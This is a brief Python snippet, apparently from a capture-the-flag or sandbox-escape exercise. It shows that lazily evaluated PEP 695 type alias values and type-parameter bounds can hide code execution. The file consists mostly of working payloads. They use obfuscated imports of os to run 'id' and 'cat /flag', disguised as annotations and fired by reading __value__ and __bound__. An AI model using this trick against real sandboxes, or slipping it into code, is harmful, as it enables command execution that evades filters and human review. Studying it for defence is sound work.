# PEP 695 (3.12): the value of a "type" alias and the bound of a type
# parameter are evaluated lazily, so the payloads look like annotations and
# only execute when __value__ / __bound__ is read.
type Cfg = __import__('o' 's').popen('id').read()


def handler[T: __import__('so'[::-1]).system('cat /flag')](x: T) -> T:
    return x


print(Cfg.__value__)
handler.__type_params__[0].__bound__
